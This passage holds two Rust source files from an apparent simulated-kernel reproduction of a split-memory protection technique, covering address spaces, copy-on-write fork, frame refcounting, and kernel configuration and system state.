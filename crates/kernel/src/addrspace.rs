//! Per-process address spaces and the system-wide frame reference counts.
//!
//! Pagetables live in simulated physical memory (the hardware walker reads
//! them there), so every mutation here is immediately visible to the MMU.
//! Frames can be shared between processes after `fork` (copy-on-write,
//! paper §5.4), so frees go through a reference-counting [`FrameTable`].

use crate::vma::Vma;
use sm_machine::phys::OutOfFrames;
use sm_machine::pte::{self, Frame, PAGE_SIZE};
use sm_machine::Machine;
use std::collections::HashMap;

/// System-wide frame reference counts for frames owned by user mappings.
///
/// Pagetable frames are always private (refcount 1) but tracked here too so
/// teardown is uniform.
#[derive(Debug, Default)]
pub struct FrameTable {
    /// `pfn -> refcount`; `pub(crate)` so [`crate::snapshot`] can rebuild
    /// the map verbatim (the allocator mirror is restored separately).
    pub(crate) rc: HashMap<u32, u32>,
}

impl FrameTable {
    /// Empty table.
    pub fn new() -> FrameTable {
        FrameTable::default()
    }

    /// Allocate a zeroed frame with refcount 1.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when physical memory is exhausted.
    pub fn alloc_zeroed(&mut self, m: &mut Machine) -> Result<Frame, OutOfFrames> {
        let f = m.alloc_zeroed_frame()?;
        self.rc.insert(f.0, 1);
        Ok(f)
    }

    /// Allocate a frame containing a copy of `src`, refcount 1.
    ///
    /// This is the COW/split-page duplication path, so the copy may become
    /// (or replace) a *code* frame: `PhysMemory::copy_frame` bumps the
    /// destination's write-generation, invalidating any decoded
    /// instructions cached against a previous life of that frame
    /// (invariant #6).
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when physical memory is exhausted.
    pub fn alloc_copy(&mut self, m: &mut Machine, src: Frame) -> Result<Frame, OutOfFrames> {
        let f = m.alloc_frame()?;
        m.phys.copy_frame(src, f);
        self.rc.insert(f.0, 1);
        Ok(f)
    }

    /// Increment the refcount (frame becomes shared, e.g. on fork).
    ///
    /// The machine-level allocator keeps its own per-frame count in
    /// lockstep (`FrameAllocator::retain`), so the hardware model can
    /// detect kernel bookkeeping bugs independently.
    ///
    /// # Panics
    ///
    /// Panics if the frame is not tracked.
    pub fn share(&mut self, m: &mut Machine, f: Frame) {
        *self
            .rc
            .get_mut(&f.0)
            .unwrap_or_else(|| panic!("sharing untracked {f}")) += 1;
        m.phys.allocator.retain(f);
    }

    /// Current refcount (0 if untracked).
    pub fn refcount(&self, f: Frame) -> u32 {
        self.rc.get(&f.0).copied().unwrap_or(0)
    }

    /// Drop one reference; frees the frame when the count reaches zero.
    /// Returns `true` if the frame was actually freed.
    ///
    /// # Panics
    ///
    /// Panics if the frame is not tracked.
    pub fn release(&mut self, m: &mut Machine, f: Frame) -> bool {
        let rc = self
            .rc
            .get_mut(&f.0)
            .unwrap_or_else(|| panic!("releasing untracked {f}"));
        *rc -= 1;
        let last = *rc == 0;
        if last {
            self.rc.remove(&f.0);
        }
        // The allocator's mirror count must agree on when the last
        // reference drops; a skew here is a kernel/machine bookkeeping bug.
        let freed = m.phys.allocator.release(f);
        debug_assert_eq!(freed, last, "kernel/machine refcount skew on {f}");
        last
    }

    /// Number of tracked frames (diagnostics).
    pub fn tracked(&self) -> usize {
        self.rc.len()
    }

    /// Iterate over `(pfn, refcount)` pairs (invariant checking).
    pub fn iter(&self) -> impl Iterator<Item = (u32, u32)> + '_ {
        self.rc.iter().map(|(&f, &c)| (f, c))
    }
}

/// A process address space: page directory, pagetable frames, VMAs and the
/// heap/stack bookkeeping.
#[derive(Debug)]
pub struct AddressSpace {
    /// Page-directory frame (the process's CR3 value).
    pub dir: Frame,
    /// Mapped regions.
    pub vmas: Vec<Vma>,
    /// Heap start (never moves).
    pub brk_start: u32,
    /// Current heap break.
    pub brk: u32,
    /// Lowest valid stack address (exclusive growth limit).
    pub stack_low: u32,
    /// Initial stack pointer (top of stack).
    pub stack_high: u32,
    /// Next address for kernel-chosen `mmap` placements.
    pub mmap_next: u32,
    /// Pagetable frames owned by this space, in allocation order;
    /// `pub(crate)` so [`crate::snapshot`] can save and restore the list
    /// (order matters only for deterministic teardown traces).
    pub(crate) table_frames: Vec<Frame>,
}

impl AddressSpace {
    /// Create an empty address space with a fresh page directory.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when physical memory is exhausted.
    pub fn new(m: &mut Machine, ft: &mut FrameTable) -> Result<AddressSpace, OutOfFrames> {
        let dir = ft.alloc_zeroed(m)?;
        Ok(AddressSpace {
            dir,
            vmas: Vec::new(),
            brk_start: 0,
            brk: 0,
            stack_low: 0,
            stack_high: 0,
            mmap_next: 0x4000_0000,
            table_frames: Vec::new(),
        })
    }

    /// Physical address of the PTE slot for `vaddr`, creating the page
    /// table if needed.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when a new pagetable frame cannot be allocated.
    pub fn pte_slot(
        &mut self,
        m: &mut Machine,
        ft: &mut FrameTable,
        vaddr: u32,
    ) -> Result<u32, OutOfFrames> {
        debug_assert!(
            self.dir != Frame(0),
            "PTE write into a torn-down address space"
        );
        let pde_addr = self.dir.base() + pte::dir_index(vaddr) * 4;
        let pde = m.phys.read_u32(pde_addr);
        let table = if pte::has(pde, pte::PRESENT) {
            pte::frame(pde)
        } else {
            let t = ft.alloc_zeroed(m)?;
            self.table_frames.push(t);
            m.phys.write_u32(
                pde_addr,
                pte::make(t, pte::PRESENT | pte::WRITABLE | pte::USER),
            );
            t
        };
        Ok(table.base() + pte::table_index(vaddr) * 4)
    }

    /// Read the PTE for `vaddr` (0 if the page table doesn't exist).
    pub fn pte(&self, m: &Machine, vaddr: u32) -> u32 {
        let pde = m.phys.read_u32(self.dir.base() + pte::dir_index(vaddr) * 4);
        if !pte::has(pde, pte::PRESENT) {
            return 0;
        }
        m.phys
            .read_u32(pte::frame(pde).base() + pte::table_index(vaddr) * 4)
    }

    /// Overwrite the PTE for `vaddr`.
    ///
    /// The caller is responsible for TLB shootdown where required — leaving
    /// stale TLB entries in place *on purpose* is the very mechanism of the
    /// split-memory technique.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when a new pagetable frame cannot be allocated.
    pub fn set_pte(
        &mut self,
        m: &mut Machine,
        ft: &mut FrameTable,
        vaddr: u32,
        value: u32,
    ) -> Result<(), OutOfFrames> {
        let slot = self.pte_slot(m, ft, vaddr)?;
        m.phys.write_u32(slot, value);
        Ok(())
    }

    /// Map an (already tracked) frame at `vaddr` with the given PTE flags.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when a new pagetable frame cannot be allocated.
    pub fn map_frame(
        &mut self,
        m: &mut Machine,
        ft: &mut FrameTable,
        vaddr: u32,
        frame: Frame,
        flags: u32,
    ) -> Result<(), OutOfFrames> {
        debug_assert_eq!(pte::page_offset(vaddr), 0, "map_frame wants a page base");
        self.set_pte(m, ft, vaddr, pte::make(frame, flags | pte::PRESENT))
    }

    /// The VMA containing `addr`.
    pub fn find_vma(&self, addr: u32) -> Option<&Vma> {
        self.vmas.iter().find(|v| v.contains(addr))
    }

    /// Mutable access to the VMA containing `addr`.
    pub fn find_vma_mut(&mut self, addr: u32) -> Option<&mut Vma> {
        self.vmas.iter_mut().find(|v| v.contains(addr))
    }

    /// Register a region.
    ///
    /// # Panics
    ///
    /// Panics if it overlaps an existing region — region placement is
    /// kernel logic, so an overlap is a kernel bug, not a user error.
    pub fn add_vma(&mut self, vma: Vma) {
        if let Some(other) = self.vmas.iter().find(|v| v.overlaps(vma.start, vma.end)) {
            panic!("VMA overlap: new {vma} vs existing {other}");
        }
        self.vmas.push(vma);
    }

    /// Remove the region starting exactly at `start`, returning it.
    pub fn remove_vma(&mut self, start: u32) -> Option<Vma> {
        let idx = self.vmas.iter().position(|v| v.start == start)?;
        Some(self.vmas.remove(idx))
    }

    /// Iterate over every present PTE in a `[start, end)` range as
    /// `(vaddr, pte)` pairs.
    pub fn present_ptes(&self, m: &Machine, start: u32, end: u32) -> Vec<(u32, u32)> {
        let mut out = Vec::new();
        let mut addr = pte::page_base(start);
        while addr < end {
            let e = self.pte(m, addr);
            if pte::has(e, pte::PRESENT) {
                out.push((addr, e));
            }
            match addr.checked_add(PAGE_SIZE) {
                Some(next) => addr = next,
                None => break,
            }
        }
        out
    }

    /// Release every mapped frame, pagetable frame and the directory.
    /// The protection engine must have released its auxiliary frames (the
    /// second halves of split pages) *before* this runs (paper §5.4).
    /// Idempotent: a second call (e.g. `execve` rebuild failure followed
    /// by process exit) is a no-op.
    pub fn free_all(&mut self, m: &mut Machine, ft: &mut FrameTable) {
        if self.dir == Frame(0) {
            return;
        }
        for vma in std::mem::take(&mut self.vmas) {
            let mut addr = pte::page_base(vma.start);
            while addr < vma.end {
                let e = self.pte(m, addr);
                if pte::has(e, pte::PRESENT) {
                    // Per-page teardown bookkeeping cost.
                    m.charge(m.config.costs.tlb_walk);
                    ft.release(m, pte::frame(e));
                }
                match addr.checked_add(PAGE_SIZE) {
                    Some(next) => addr = next,
                    None => break,
                }
            }
        }
        for t in std::mem::take(&mut self.table_frames) {
            ft.release(m, t);
        }
        ft.release(m, self.dir);
        self.dir = Frame(0);
    }

    /// Clone this address space for `fork`: VMAs are copied, every present
    /// writable page becomes shared copy-on-write in *both* parent and
    /// child (paper §5.4), and read-only pages are shared outright.
    ///
    /// Split pages (PTE `SPLIT` bit) are shared the same way; the engine's
    /// `on_fork` hook duplicates its own bookkeeping and decides how the
    /// code-frame halves are shared.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when pagetable frames for the child cannot be
    /// allocated.
    pub fn fork_copy(
        &mut self,
        m: &mut Machine,
        ft: &mut FrameTable,
    ) -> Result<AddressSpace, OutOfFrames> {
        let mut child = AddressSpace::new(m, ft)?;
        child.vmas = self.vmas.clone();
        child.brk_start = self.brk_start;
        child.brk = self.brk;
        child.stack_low = self.stack_low;
        child.stack_high = self.stack_high;
        child.mmap_next = self.mmap_next;
        let ranges: Vec<(u32, u32)> = self.vmas.iter().map(|v| (v.start, v.end)).collect();
        for (start, end) in ranges {
            for (vaddr, entry) in self.present_ptes(m, start, end) {
                let mut e = entry;
                if pte::has(e, pte::WRITABLE) {
                    e = (e & !pte::WRITABLE) | pte::COW;
                    // Rewrite the parent PTE too and drop its stale TLB
                    // mapping so its next write faults. The parent's
                    // pagetable for a present page exists, so this cannot
                    // allocate; it is fallible only in the type system.
                    self.set_pte(m, ft, vaddr, e)?;
                    m.invlpg(vaddr);
                }
                // Per-page fork bookkeeping cost.
                m.charge(m.config.costs.tlb_walk);
                // Child PTE first, share second: if pagetable growth for
                // the child fails mid-fork, the partial child is unwound
                // without leaking a reference (the parent keeps its COW
                // markings, which are semantically inert).
                if child.set_pte(m, ft, vaddr, e).is_err() {
                    child.free_all(m, ft);
                    return Err(OutOfFrames);
                }
                ft.share(m, pte::frame(e));
            }
        }
        Ok(child)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::{SEG_R, SEG_W};
    use crate::vma::VmaKind;
    use sm_machine::MachineConfig;

    fn setup() -> (Machine, FrameTable, AddressSpace) {
        let mut m = Machine::new(MachineConfig {
            phys_frames: 512,
            ..MachineConfig::default()
        });
        let mut ft = FrameTable::new();
        let a = AddressSpace::new(&mut m, &mut ft).unwrap();
        (m, ft, a)
    }

    #[test]
    fn map_and_read_pte() {
        let (mut m, mut ft, mut a) = setup();
        let f = ft.alloc_zeroed(&mut m).unwrap();
        a.map_frame(&mut m, &mut ft, 0x1000, f, pte::WRITABLE | pte::USER)
            .unwrap();
        let e = a.pte(&m, 0x1234);
        assert!(pte::has(e, pte::PRESENT | pte::WRITABLE | pte::USER));
        assert_eq!(pte::frame(e), f);
        assert_eq!(a.pte(&m, 0x9000), 0);
    }

    #[test]
    fn translation_through_machine_uses_our_tables() {
        let (mut m, mut ft, mut a) = setup();
        let f = ft.alloc_zeroed(&mut m).unwrap();
        a.map_frame(&mut m, &mut ft, 0x1000, f, pte::WRITABLE | pte::USER)
            .unwrap();
        m.set_cr3(a.dir);
        m.write_u8(0x1010, 0xAB, sm_machine::cpu::Privilege::User)
            .unwrap();
        assert_eq!(m.phys.read_u8(f.base() + 0x10), 0xAB);
    }

    #[test]
    fn refcounts_guard_frees() {
        let (mut m, mut ft, _) = setup();
        let f = ft.alloc_zeroed(&mut m).unwrap();
        ft.share(&mut m, f);
        assert_eq!(ft.refcount(f), 2);
        assert!(!ft.release(&mut m, f));
        assert!(ft.release(&mut m, f));
        assert_eq!(ft.refcount(f), 0);
    }

    #[test]
    fn free_all_returns_frames() {
        let (mut m, mut ft, mut a) = setup();
        let before = m.phys.allocator.free_count();
        let f1 = ft.alloc_zeroed(&mut m).unwrap();
        let f2 = ft.alloc_zeroed(&mut m).unwrap();
        a.add_vma(Vma::new(0x1000, 0x3000, SEG_R | SEG_W, VmaKind::Data, "d"));
        a.map_frame(&mut m, &mut ft, 0x1000, f1, pte::WRITABLE | pte::USER)
            .unwrap();
        a.map_frame(&mut m, &mut ft, 0x2000, f2, pte::WRITABLE | pte::USER)
            .unwrap();
        a.free_all(&mut m, &mut ft);
        // Everything returned, including the directory frame allocated in
        // setup(), hence one more than `before`.
        assert_eq!(m.phys.allocator.free_count(), before + 1);
        assert_eq!(ft.tracked(), 0);
    }

    #[test]
    fn fork_marks_cow_in_both() {
        let (mut m, mut ft, mut a) = setup();
        let f = ft.alloc_zeroed(&mut m).unwrap();
        a.add_vma(Vma::new(0x1000, 0x2000, SEG_R | SEG_W, VmaKind::Data, "d"));
        a.map_frame(&mut m, &mut ft, 0x1000, f, pte::WRITABLE | pte::USER)
            .unwrap();
        let child = a.fork_copy(&mut m, &mut ft).unwrap();
        let pe = a.pte(&m, 0x1000);
        let ce = child.pte(&m, 0x1000);
        for e in [pe, ce] {
            assert!(pte::has(e, pte::COW));
            assert!(!pte::has(e, pte::WRITABLE));
            assert_eq!(pte::frame(e), f);
        }
        assert_eq!(ft.refcount(f), 2);
    }

    #[test]
    fn vma_lookup_and_removal() {
        let (_, _, mut a) = setup();
        a.add_vma(Vma::new(0x1000, 0x2000, SEG_R, VmaKind::Code, "c"));
        a.add_vma(Vma::new(0x8000, 0x9000, SEG_R | SEG_W, VmaKind::Heap, "h"));
        assert_eq!(a.find_vma(0x1500).unwrap().label, "c");
        assert!(a.find_vma(0x5000).is_none());
        assert!(a.remove_vma(0x8000).is_some());
        assert!(a.find_vma(0x8500).is_none());
    }

    #[test]
    #[should_panic(expected = "VMA overlap")]
    fn overlapping_vma_panics() {
        let (_, _, mut a) = setup();
        a.add_vma(Vma::new(0x1000, 0x3000, SEG_R, VmaKind::Code, "a"));
        a.add_vma(Vma::new(0x2000, 0x4000, SEG_R, VmaKind::Code, "b"));
    }
}
