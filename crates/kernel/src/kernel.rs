//! The kernel proper: system state, scheduler, trap handling and signal
//! delivery.
//!
//! The kernel is *host* code — it manipulates the simulated machine rather
//! than running on it, which is what lets the whole reproduction stay in
//! safe Rust while still exercising the architectural mechanisms (pagetable
//! bits, TLB fills, trap flag) the paper's technique is made of.

use crate::addrspace::FrameTable;
use crate::engine::{CfiOutcome, FaultOutcome, ProtectionEngine, UdOutcome};
use crate::events::{Event, EventLog};
use crate::fs::{PipeTable, RamFs};
use crate::image::ExecImage;
use crate::loader;
use crate::net::NetStack;
use crate::process::{FdObject, Pid, ProcState, Process, WaitReason};
use crate::signal::{self, SigAction};
use crate::stats::KernelStats;
use crate::syscall;
use sm_machine::chaos::{ChaosState, FaultPlan, StepFaults};
use sm_machine::cpu::{flags, PageFaultInfo, Privilege};
use sm_machine::phys::OutOfFrames;
use sm_machine::pte::{self, Frame};
use sm_machine::tlb::TlbEntry;
use sm_machine::{Machine, MachineConfig, Trap};
use sm_rng::StdRng;
use std::collections::{BTreeMap, VecDeque};

/// Kernel construction parameters.
#[derive(Debug, Clone, Copy)]
pub struct KernelConfig {
    /// Scheduler time slice in simulated cycles.
    pub quantum_cycles: u64,
    /// Stack size per process.
    pub stack_size: u32,
    /// Top of the stack region (esp starts just under this, modulo ASLR).
    pub stack_top: u32,
    /// Randomise stack placement slightly (the Linux 2.6 behaviour the
    /// Samba exploit of paper §6.1.2 has to brute-force).
    pub aslr_stack: bool,
    /// Deterministic seed for all kernel randomness.
    pub seed: u64,
    /// Maximum heap size accepted from `brk`.
    pub heap_limit: u32,
    /// Capacity of pipes created by the `pipe` syscall (the loopback
    /// network always uses the default). Workloads use this to model
    /// different I/O batching regimes.
    pub pipe_capacity: usize,
    /// Deterministic fault-injection plan (inert by default); see
    /// [`sm_machine::chaos`].
    pub chaos: FaultPlan,
    /// Tag TLB entries with a per-address-space identifier (the process
    /// pid) instead of flushing both TLBs on every context switch. Off by
    /// default: the paper's testbed (Pentium III / Linux 2.6.13) has no
    /// ASIDs, and the flush-on-switch cost is part of what §4.6 measures.
    /// When on, a switch retags via [`Machine::set_cr3_tagged`] and each
    /// process keeps its warm translations across quanta — including the
    /// *desynchronised* split-memory entries, which the cross-process
    /// invariants then attribute per-ASID.
    pub asid_tlbs: bool,
    /// Livelock watchdog: how many *consecutive* page faults at one EIP —
    /// with no instruction retiring in between — the kernel tolerates
    /// before giving up with [`RunExit::Livelock`]. Normal split-memory
    /// reloads fault the same instruction a handful of times; anything in
    /// the tens means the fault handler's work is being undone each round.
    pub livelock_threshold: u64,
    /// Kernel/engine-layer trace mask ([`sm_trace::mask`] bits), OR'd into
    /// the machine's tracer at boot so all layers share one ring and one
    /// cycle clock. 0 (the default) adds nothing.
    pub trace: u32,
    /// Trace ring capacity override. 0 (the default) inherits
    /// [`sm_machine::MachineConfig::trace_capacity`]; any other value sizes
    /// the ring directly, letting replay harnesses pin the exact drop
    /// behaviour of the run they are reproducing.
    pub trace_capacity: usize,
    /// Restrict the trace ring to events involving this pid (plus
    /// process-agnostic hardware events). `None` (the default) keeps
    /// everything. Filtering happens *before* sequence assignment, so a
    /// filtered stream stays gap-free.
    pub trace_pid: Option<u32>,
    /// Execute user code through the superblock pipeline
    /// ([`Machine::run_block`]) instead of per-[`Machine::step`]
    /// dispatch whenever no chaos plan is armed and no stop-sequence
    /// watch is active. Byte-identical either way — cycles, stats, TLB
    /// counters, trace stream, event log and every verdict (see
    /// [`sm_machine::superblock`]) — so it defaults to on; tests flip it
    /// off to check exactly that equivalence. Not serialized by the
    /// snapshot codec: the pipeline is an execution *strategy*, not
    /// machine state, and a restored kernel keeps its own setting.
    pub pipeline: bool,
}

/// Process-wide default for [`KernelConfig::pipeline`], so A/B harness
/// binaries (`chaos --no-pipeline`, `fig6_normalized --no-pipeline`) can
/// flip every internally-constructed kernel without threading a flag
/// through each sweep entry point.
static PIPELINE_DEFAULT: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(true);

/// Override what `KernelConfig::default()` returns for
/// [`KernelConfig::pipeline`] in this process (A/B harnesses only; tests
/// that need a specific setting should set the field explicitly).
pub fn set_default_pipeline(on: bool) {
    PIPELINE_DEFAULT.store(on, std::sync::atomic::Ordering::Relaxed);
}

/// The process-wide [`KernelConfig::pipeline`] default (true unless
/// [`set_default_pipeline`] was called).
pub fn default_pipeline() -> bool {
    PIPELINE_DEFAULT.load(std::sync::atomic::Ordering::Relaxed)
}

impl Default for KernelConfig {
    fn default() -> KernelConfig {
        KernelConfig {
            quantum_cycles: 30_000,
            stack_size: 64 * 1024,
            stack_top: 0xC000_0000,
            aslr_stack: false,
            seed: 42,
            heap_limit: 4 * 1024 * 1024,
            pipe_capacity: crate::fs::PIPE_CAPACITY,
            chaos: FaultPlan::default(),
            livelock_threshold: 64,
            asid_tlbs: false,
            trace: 0,
            trace_capacity: 0,
            trace_pid: None,
            pipeline: default_pipeline(),
        }
    }
}

/// Why [`Kernel::run`] returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunExit {
    /// Every process has exited (or been reaped).
    AllExited,
    /// The cycle budget was exhausted.
    CyclesExhausted,
    /// No process is runnable and no event can unblock one.
    Deadlock,
    /// The livelock watchdog tripped: `pid` kept faulting at `eip` without
    /// retiring anything (see [`KernelConfig::livelock_threshold`]).
    Livelock {
        /// The spinning process.
        pid: Pid,
        /// The instruction that kept faulting.
        eip: u32,
    },
}

/// Error spawning a process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SpawnError {
    /// Physical memory exhausted.
    OutOfMemory,
    /// Referenced image/library missing or malformed.
    BadImage(String),
    /// Library signature verification failed (paper §4.3).
    VerificationFailed(String),
    /// Disk I/O failed reading the image/library (injected by the chaos
    /// harness's fs-fault plans; surfaces as `EIO` at the syscall layer).
    Io(String),
}

impl std::fmt::Display for SpawnError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpawnError::OutOfMemory => f.write_str("out of physical memory"),
            SpawnError::BadImage(m) => write!(f, "bad image: {m}"),
            SpawnError::VerificationFailed(m) => write!(f, "library verification failed: {m}"),
            SpawnError::Io(m) => write!(f, "I/O error: {m}"),
        }
    }
}

impl std::error::Error for SpawnError {}

/// Everything the kernel owns except the protection engine. Engines receive
/// `&mut System` in their hooks, keeping engine state and system state
/// disjoint (the borrow-splitting seam).
pub struct System {
    /// The simulated machine.
    pub machine: Machine,
    /// Frame reference counts.
    pub frames: FrameTable,
    /// Process table.
    pub procs: BTreeMap<u32, Process>,
    /// Pipes.
    pub pipes: PipeTable,
    /// Ram filesystem.
    pub fs: RamFs,
    /// Loopback network.
    pub net: NetStack,
    /// Event log.
    pub events: EventLog,
    /// Configuration.
    pub config: KernelConfig,
    /// Deterministic randomness (ASLR, split-policy draws, workload
    /// jitter): the single seeded stream everything replays from.
    pub rng: StdRng,
    /// Kernel counters.
    pub stats: KernelStats,
    /// Currently scheduled process.
    pub current: Option<Pid>,
    /// Live fault-injection stream (`None` when the configured plan is
    /// inert, which keeps the fault-free hot path untouched).
    pub chaos: Option<ChaosState>,
    pub(crate) run_queue: VecDeque<Pid>,
    pub(crate) next_pid: u32,
    /// Cached count of non-zombie processes, kept in lockstep with the
    /// process table at every insert/exit/reap so the scheduler loop and
    /// fleet drivers never pay an O(procs) recount per slice. Recomputed
    /// on snapshot restore; audited by invariant #11.
    pub(crate) live_count: usize,
    pub(crate) loaded_cr3_for: Option<Pid>,
    pub(crate) preempt: bool,
    /// Livelock watchdog: (pid, eip, consecutive unretired faults).
    pub(crate) watchdog: Option<(Pid, u32, u64)>,
    pub(crate) livelocked: Option<(Pid, u32)>,
}

impl System {
    fn new(mconfig: MachineConfig, config: KernelConfig) -> System {
        let mut machine = Machine::new(mconfig);
        if config.trace_capacity > 0 {
            machine.tracer.enable(config.trace, config.trace_capacity);
        } else {
            machine.enable_trace(config.trace);
        }
        if config.trace_pid.is_some() {
            machine.tracer.set_pid_filter(config.trace_pid);
        }
        if let Some(at) = config.chaos.oom_at {
            machine
                .phys
                .allocator
                .inject_oom(at, config.chaos.oom_every_after);
        }
        System {
            machine,
            frames: FrameTable::new(),
            procs: BTreeMap::new(),
            pipes: PipeTable::new(),
            fs: RamFs::new(),
            net: NetStack::new(),
            events: EventLog::new(),
            rng: StdRng::seed_from_u64(config.seed),
            config,
            stats: KernelStats::default(),
            current: None,
            chaos: config
                .chaos
                .is_active()
                .then(|| ChaosState::new(config.chaos)),
            run_queue: VecDeque::new(),
            next_pid: 1,
            live_count: 0,
            loaded_cr3_for: None,
            preempt: false,
            watchdog: None,
            livelocked: None,
        }
    }

    /// Borrow a process.
    ///
    /// # Panics
    ///
    /// Panics on an unknown pid (kernel bug).
    pub fn proc(&self, pid: Pid) -> &Process {
        self.procs.get(&pid.0).unwrap_or_else(|| panic!("no {pid}"))
    }

    /// Mutably borrow a process.
    ///
    /// # Panics
    ///
    /// Panics on an unknown pid (kernel bug).
    pub fn proc_mut(&mut self, pid: Pid) -> &mut Process {
        self.procs
            .get_mut(&pid.0)
            .unwrap_or_else(|| panic!("no {pid}"))
    }

    /// The currently scheduled pid.
    ///
    /// # Panics
    ///
    /// Panics if no process is scheduled.
    pub fn current_pid(&self) -> Pid {
        self.current.expect("no current process")
    }

    /// Read the PTE of `vaddr` in `pid`'s address space.
    pub fn pte_of(&self, pid: Pid, vaddr: u32) -> u32 {
        self.proc(pid).aspace.pte(&self.machine, vaddr)
    }

    /// Overwrite the PTE of `vaddr` in `pid`'s address space (no TLB
    /// shootdown — deliberate; see [`crate::addrspace::AddressSpace::set_pte`]).
    pub fn set_pte(&mut self, pid: Pid, vaddr: u32, value: u32) {
        let p = self
            .procs
            .get_mut(&pid.0)
            .unwrap_or_else(|| panic!("no {pid}"));
        p.aspace
            .set_pte(&mut self.machine, &mut self.frames, vaddr, value)
            .expect("pagetable allocation failed");
    }

    /// Allocate a zeroed, refcounted frame.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when physical memory is exhausted (or an injected
    /// chaos OOM is due). Every caller must degrade gracefully — kill the
    /// offending process, fall back to weaker protection — never panic.
    pub fn alloc_zeroed(&mut self) -> Result<Frame, OutOfFrames> {
        self.frames.alloc_zeroed(&mut self.machine)
    }

    /// Allocate a refcounted copy of `src`.
    ///
    /// # Errors
    ///
    /// [`OutOfFrames`] when physical memory is exhausted (or an injected
    /// chaos OOM is due).
    pub fn alloc_copy(&mut self, src: Frame) -> Result<Frame, OutOfFrames> {
        self.frames.alloc_copy(&mut self.machine, src)
    }

    /// Release one reference to a tracked frame.
    pub fn release_frame(&mut self, f: Frame) {
        self.frames.release(&mut self.machine, f);
    }

    /// Charge kernel-software cycles.
    pub fn charge(&mut self, cycles: u64) {
        self.machine.charge(cycles);
    }

    /// Append an event stamped with the current cycle count.
    pub fn log(&mut self, event: Event) {
        self.events.push(self.machine.cycles, event);
    }

    /// Record a trace event at the current cycle if `layer` is enabled
    /// (same clock and ring as the machine's own events; see
    /// [`Machine::trace`]).
    #[inline(always)]
    pub fn trace(&mut self, layer: u32, f: impl FnOnce() -> sm_trace::TraceEvent) {
        self.machine.trace(layer, f);
    }

    /// Consult the chaos plan about the filesystem operation about to run.
    /// Advances the deterministic fs-op clock; inert (and absent) plans
    /// always answer "no fault".
    pub fn chaos_fs_fault(&mut self) -> sm_machine::chaos::FsFault {
        self.chaos
            .as_mut()
            .map(|c| c.on_fs_op())
            .unwrap_or_default()
    }

    /// Wake every process whose wait reason satisfies `pred`.
    pub fn wake_where(&mut self, pred: impl Fn(&WaitReason) -> bool) {
        let mut woken = Vec::new();
        for p in self.procs.values_mut() {
            if let ProcState::Blocked(r) = p.state {
                if pred(&r) {
                    p.state = ProcState::Ready;
                    woken.push(p.pid);
                }
            }
        }
        for pid in woken {
            self.enqueue(pid);
        }
    }

    /// Add a pid to the run queue if not already present.
    pub(crate) fn enqueue(&mut self, pid: Pid) {
        if !self.run_queue.contains(&pid) {
            self.run_queue.push_back(pid);
        }
    }

    /// Number of processes not yet reaped and not zombies. O(1): the
    /// count is maintained incrementally at every spawn/fork/exit and
    /// audited against a full recount by invariant #11.
    pub fn live_process_count(&self) -> usize {
        self.live_count
    }

    /// Recount live processes the slow way (the ground truth the cached
    /// counter must track). Exposed for the invariant checker.
    pub fn recount_live(&self) -> usize {
        self.procs
            .values()
            .filter(|p| p.state != ProcState::Zombie)
            .count()
    }

    pub(crate) fn alloc_pid(&mut self) -> Pid {
        let p = Pid(self.next_pid);
        self.next_pid += 1;
        p
    }
}

/// The kernel: system state plus the pluggable protection engine.
pub struct Kernel {
    /// Machine, processes, fs, logs.
    pub sys: System,
    /// Active protection engine.
    pub engine: Box<dyn ProtectionEngine>,
}

impl Kernel {
    /// Boot a kernel over a fresh machine.
    pub fn new(
        mconfig: MachineConfig,
        kconfig: KernelConfig,
        engine: Box<dyn ProtectionEngine>,
    ) -> Kernel {
        let mut mconfig = mconfig;
        // The CFI event stream is an engine property, not a caller knob:
        // arm it exactly when the engine polices control flow (snapshot
        // restore re-derives it the same way).
        mconfig.cfi_events = engine.wants_cfi_events();
        Kernel {
            sys: System::new(mconfig, kconfig),
            engine,
        }
    }

    /// Convenience: boot with default configs and the given engine.
    pub fn with_engine(engine: Box<dyn ProtectionEngine>) -> Kernel {
        Kernel::new(MachineConfig::default(), KernelConfig::default(), engine)
    }

    /// Spawn a process from an image.
    ///
    /// # Errors
    ///
    /// [`SpawnError`] if memory is exhausted, the image or one of its
    /// libraries is malformed, or a library fails verification.
    pub fn spawn(&mut self, image: &ExecImage) -> Result<Pid, SpawnError> {
        let pid = self.sys.alloc_pid();
        let aspace =
            crate::addrspace::AddressSpace::new(&mut self.sys.machine, &mut self.sys.frames)
                .map_err(|_| SpawnError::OutOfMemory)?;
        let proc = Process::new(pid, pid, image.name.clone(), aspace);
        self.sys.procs.insert(pid.0, proc);
        self.sys.live_count += 1;
        if let Err(e) = loader::load_into(self, pid, image) {
            // Roll the half-born process back out.
            self.engine.on_teardown(&mut self.sys, pid);
            let mut p = self.sys.procs.remove(&pid.0).expect("just inserted");
            self.sys.live_count -= 1;
            p.aspace
                .free_all(&mut self.sys.machine, &mut self.sys.frames);
            return Err(e);
        }
        self.sys.stats.processes_spawned += 1;
        self.sys.enqueue(pid);
        Ok(pid)
    }

    /// Run the scheduler until everything exits, the cycle budget runs out,
    /// or the system deadlocks.
    pub fn run(&mut self, max_cycles: u64) -> RunExit {
        self.run_bounded(max_cycles, None)
    }

    /// [`run`](Self::run) that additionally stops at the first instruction
    /// boundary where the tracer has emitted at least `stop_seq` records.
    ///
    /// The scheduler geometry (quantum clipping against the cycle
    /// deadline) is identical to [`run`](Self::run), so every instruction
    /// executed up to the stop point is the one the unbounded run would
    /// have executed — this is the time-travel replay primitive. A
    /// seq-stop looks like a preemption at that boundary (the current
    /// process is saved and re-enqueued) and reports
    /// [`RunExit::CyclesExhausted`]; callers distinguish "reached the seq"
    /// from "budget ran out" by checking the tracer's emitted count.
    /// With tracing disabled the seq never advances and this degenerates
